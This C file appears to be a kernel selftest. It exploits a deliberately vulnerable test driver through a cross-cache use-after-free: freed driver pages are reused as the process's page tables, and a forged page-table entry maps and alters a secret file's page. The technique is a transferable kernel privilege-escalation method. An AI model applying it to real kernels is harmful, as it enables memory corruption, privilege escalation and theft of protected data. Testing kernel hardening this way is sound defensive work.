// SPDX-License-Identifier: GPL-2.0-only
/*
 * Cross-cache use-after-free: have the driver free pages it goes on using,
 * have the kernel reuse them as page tables of the attacker, and rewrite a
 * page-table entry through the dangling pointer. No address is leaked but
 * that of the prize.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <stddef.h>

#include "common.h"

#define REGIONS	(4 * KPKEYS_VULN_OBJS)
#define ROUNDS	8

/* Slots of a table: the one that the attacker fills, and the one it forges. */
#define FILLED	1
#define FORGED	256

static u64 obj_read(unsigned int index, unsigned int slot)
{
	struct kpkeys_vuln_obj o = {
		.index = index,
		.offset = slot * sizeof(u64),
	};

	vuln_obj(KPKEYS_VULN_OBJ_READ, &o);
	return o.value;
}

static void obj_write(unsigned int index, unsigned int slot, u64 value)
{
	struct kpkeys_vuln_obj o = {
		.index = index,
		.offset = slot * sizeof(u64),
		.value = value,
	};

	vuln_obj(KPKEYS_VULN_OBJ_WRITE, &o);
}

/* Does the freed object now look like a table with one user page in it? */
static bool is_table(unsigned int index)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 flags = info->pte_user & ~info->sync;

	return !obj_read(index, FILLED - 1) && !obj_read(index, FILLED + 1) &&
	       !obj_read(index, FORGED) &&
	       (obj_read(index, FILLED) & flags) == flags;
}

/* Free objects and populate @region; returns a reused object or -1. */
static int reuse(char *region, size_t span)
{
	struct kpkeys_vuln_obj o = { 0 };
	size_t i;

	for (i = 0; i < KPKEYS_VULN_OBJS; i++) {
		o.index = i;
		vuln_obj(KPKEYS_VULN_OBJ_ALLOC, &o);
	}
	for (i = 0; i < KPKEYS_VULN_OBJS; i++) {
		o.index = i;
		vuln_obj(KPKEYS_VULN_OBJ_FREE, &o);
	}
	for (i = 0; i < REGIONS; i++)
		region[i * span + FILLED * page_size()] = 1;

	for (i = 0; i < KPKEYS_VULN_OBJS; i++)
		if (is_table(i))
			return i;
	return -1;
}

int main(int argc, char **argv)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 secret = vuln_file_phys(argc > 1 ? argv[1] : NULL);
	size_t span = 1UL << info->shift[KPKEYS_VULN_PMD];
	long size = page_size();
	char *region = NULL;
	char *first, *last;
	cpu_set_t cpus;
	int round, i, obj = -1;

	/* Freed pages queue up per CPU: stay on the one that freed them. */
	CPU_ZERO(&cpus);
	CPU_SET(sched_getcpu(), &cpus);
	sched_setaffinity(0, sizeof(cpus), &cpus);

	for (round = 0; round < ROUNDS && obj < 0; round++) {
		region = map_pages(NULL, (REGIONS + 1) * span);
		region += span - (uintptr_t)region % span;
		obj = reuse(region, span);
	}
	if (obj < 0)
		out_of_reach("no freed page came back as a page table");

	first = region;
	last = region + (REGIONS - 1) * span + (FORGED + 1) * size;
	obj_write(obj, FORGED, secret | info->pte_user);
	sync_between(first, last);

	/* Which region the table belongs to shows where the secret appears. */
	for (i = 0; i < REGIONS; i++) {
		char *page = region + i * span + FORGED * size;

		if (is_token(page)) {
			steal_and_alter(page);
			break;
		}
	}

	obj_write(obj, FORGED, info->sync);
	sync_between(first, last);
	if (i == REGIONS)
		die("the secret did not appear: the forged entry has no effect");
	return 0;
}
